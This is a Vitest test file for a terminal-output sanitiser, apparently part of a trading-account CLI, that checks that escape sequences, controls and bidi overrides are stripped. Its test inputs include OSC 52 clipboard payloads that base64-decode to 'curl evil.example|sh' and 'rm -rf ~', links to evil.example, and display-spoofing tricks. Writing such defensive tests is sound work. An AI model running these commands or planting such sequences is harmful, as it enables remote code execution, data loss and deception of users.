// The terminal sanitiser (src/terminal/text.ts): every escape sequence, control and bidi override from untrusted text
// is removed, printable text kept.
import { test, expect } from 'vitest';
import { createStreamSanitizer, sanitizeForTerminal, oneLineForTerminal, printableAscii } from '../../../src/terminal/text.js';

const ESC = '\u001b';
const BEL = '\u0007';
const ST = `${ESC}\\`;

/** Every kind of sequence a server or model could use to take over the terminal, with what must remain. */
const CASES: ReadonlyArray<readonly [string, string, string]> = [
  ['plain text', 'Holdings: ₹1,23,456.78 across 12 stocks', 'Holdings: ₹1,23,456.78 across 12 stocks'],
  ['newlines and tabs', 'a\tb\nc\n', 'a\tb\nc\n'],
  ['emoji and Devanagari', '⚠️ नमस्ते 📈', '⚠️ नमस्ते 📈'],
  ['SGR colour', `${ESC}[31mred${ESC}[0m`, 'red'],
  ['CSI with private parameters', `${ESC}[?1049hscreen${ESC}[?25l`, 'screen'],
  ['CSI cursor movement and erase', `ok${ESC}[2K${ESC}[1A${ESC}[10;20H!`, 'ok!'],
  ['8-bit CSI', '\u009b31mred\u009b0m', 'red'],
  ['OSC window title ended by BEL', `${ESC}]0;pwned${BEL}after`, 'after'],
  ['OSC window title ended by ST', `${ESC}]2;pwned${ST}after`, 'after'],
  ['OSC 8 hyperlink', `${ESC}]8;;https://evil.example/${BEL}click me${ESC}]8;;${BEL}`, 'click me'],
  ['OSC 8 hyperlink with ST', `${ESC}]8;;https://evil.example/${ST}click me${ESC}]8;;${ST}`, 'click me'],
  ['OSC 52 clipboard write', `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=${BEL}text`, 'text'],
  ['8-bit OSC ended by 8-bit ST', '\u009d0;title\u009cafter', 'after'],
  ['DCS string', `${ESC}Pq#0;2;0;0;0#0~~@@${ST}after`, 'after'],
  ['APC string', `${ESC}_Gf=100;AAAA${ST}after`, 'after'],
  ['PM string', `${ESC}^private${ST}after`, 'after'],
  ['SOS string', `${ESC}Xstart of string${ST}after`, 'after'],
  ['a string cut off by CAN', `${ESC}]0;title\u0018after`, 'after'],
  ['an unterminated OSC hides the rest', `before${ESC}]0;title and more`, 'before'],
  ['ESC inside an OSC ends it and starts a new sequence', `${ESC}]0;x${ESC}[31mred`, 'red'],
  ['two-character escape (full reset)', `${ESC}cafter`, 'after'],
  ['escape with an intermediate (charset)', `${ESC}(Bafter`, 'after'],
  ['lone ESC before a newline', `a${ESC}\nb`, 'a\nb'],
  ['lone ESC at the end', `end${ESC}`, 'end'],
  ['ESC before a non-ASCII letter', `${ESC}éclair`, 'éclair'],
  ['CSI broken off by a newline', `${ESC}[3\nx`, '\nx'],
  ['C0 controls', 'a\u0000b\u0007c\u0008d\u000be\u000cf\u007fg', 'abcdefg'],
  ['C1 controls', 'a\u0080b\u0085c\u008dd\u009ce', 'abcde'],
  ['carriage return overwriting a line', 'Total: ₹0\rTotal: ₹99,999', 'Total: ₹0Total: ₹99,999'],
  ['CRLF line ends', 'one\r\ntwo\r\n', 'one\ntwo\n'],
  ['CR CR LF', 'one\r\r\ntwo', 'one\ntwo'],
  ['trailing CR', 'one\r', 'one'],
  ['backspaces', 'SELL\u0008\u0008\u0008\u0008BUY', 'SELLBUY'],
  ['bidi override', 'INFY \u202eYUB\u202c', 'INFY YUB'],
  ['bidi isolates and marks', '\u2066a\u2067b\u2068c\u2069\u200ed\u200fe\u061cf', 'abcdef'],
];

test.each(CASES)('sanitizeForTerminal removes %s', (_kind, input, expected) => {
  expect(sanitizeForTerminal(input)).toBe(expected);
});

test.each(CASES)('a stream split at every point cleans %s exactly as a whole', (_kind, input, expected) => {
  for (let cut = 0; cut <= input.length; cut += 1) {
    const sanitizer = createStreamSanitizer();
    const output = sanitizer.push(input.slice(0, cut)) + sanitizer.push(input.slice(cut)) + sanitizer.flush();
    expect(output, `cut at ${cut}`).toBe(expected);
  }
});

test.each(CASES)('a stream fed one code unit at a time cleans %s exactly as a whole', (_kind, input, expected) => {
  const sanitizer = createStreamSanitizer();
  let output = '';
  for (const unit of input.split('')) output += sanitizer.push(unit);
  expect(output + sanitizer.flush()).toBe(expected);
});

test('an escape sequence cut at a chunk boundary is held back, not printed in pieces', () => {
  const sanitizer = createStreamSanitizer();
  expect(sanitizer.push(`Your P&L ${ESC}[3`)).toBe('Your P&L ');
  expect(sanitizer.push(`1mis up${ESC}`)).toBe('is up');
  expect(sanitizer.push('[0m today')).toBe(' today');
  expect(sanitizer.flush()).toBe('');
});

test('a carriage return at a chunk boundary waits to see whether a newline follows', () => {
  const sanitizer = createStreamSanitizer();
  expect(sanitizer.push('line one\r')).toBe('line one');
  expect(sanitizer.push('\nline two\r')).toBe('\nline two');
  expect(sanitizer.push('overwritten?')).toBe('overwritten?');
  expect(sanitizer.flush()).toBe('');
});

test('a surrogate pair split across chunks comes out whole', () => {
  const chart = '📈';
  const sanitizer = createStreamSanitizer();
  const first = sanitizer.push(`up ${chart.slice(0, 1)}`);
  const second = sanitizer.push(`${chart.slice(1)} today`);
  expect(first).toBe('up ');
  expect(second).toBe(`${chart} today`);
});

test('an OSC cut across many chunks shows none of its payload', () => {
  const sanitizer = createStreamSanitizer();
  const pieces = [`a${ESC}]`, '52;c;', 'cm0gLXJm', `IH4=${ESC}`, '\\b'];
  expect(pieces.map((piece) => sanitizer.push(piece)).join('') + sanitizer.flush()).toBe('ab');
});

test('a sanitizer starts clean after flush, even if the last stream ended inside a sequence', () => {
  const sanitizer = createStreamSanitizer();
  sanitizer.push(`x${ESC}]0;unterminated`);
  sanitizer.flush();
  expect(sanitizer.push('visible again') + sanitizer.flush()).toBe('visible again');
});

test('no control character, escape or bidi control survives any mix of dangerous input', () => {
  const alphabet = [ESC, '[', ']', 'P', '_', '\\', BEL, '\r', '\n', '\t', '\u009b', '\u009d', '\u009c', '\u0018', '\u0008',
    '\u202e', '\u2066', 'a', '1', ';', 'm', '?', ' ', '\ud83d', '\udcc8'];
  const forbidden = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]/;
  let seed = 7;
  const next = () => (seed = (seed * 1103515245 + 12345) % 2147483648);
  for (let round = 0; round < 2000; round += 1) {
    let input = '';
    for (let index = 0; index < 24; index += 1) input += alphabet[next() % alphabet.length];
    const whole = sanitizeForTerminal(input);
    expect(whole, JSON.stringify(input)).not.toMatch(forbidden);
    const sanitizer = createStreamSanitizer();
    const cut = next() % (input.length + 1);
    expect(sanitizer.push(input.slice(0, cut)) + sanitizer.push(input.slice(cut)) + sanitizer.flush()).toBe(whole);
  }
});

// Issue 14: a user name from the server is printed mid-line (the prompt, "Logged in to Kite as …").
test('oneLineForTerminal strips OSC 52, a title change, a screen clear and bidi overrides, and folds lines', () => {
  const hostile = 'Ra\u001b]52;c;cm0gLXJmIH4=\u0007vi\u001b]0;owned\u0007 \u001b[2J\u001b[H\u202eKumar\u202c\nSecond line\r\tend';
  expect(oneLineForTerminal(hostile)).toBe('Ravi Kumar Second line end');
  expect(oneLineForTerminal(`  ${'x'.repeat(300)}  `)).toBe(`${'x'.repeat(199)}…`);
});

test('printableAscii turns every character outside ! to ~ into ? and cuts at max with …', () => {
  expect(printableAscii('get_holdings', 12)).toBe('get_holdings');
  expect(printableAscii('a b\u001b[2Jé\u202e', 20)).toBe('a?b?[2J??');
  expect(printableAscii('abcdefgh', 5)).toBe('abcde…');
  expect(printableAscii('', 5)).toBe('');
});
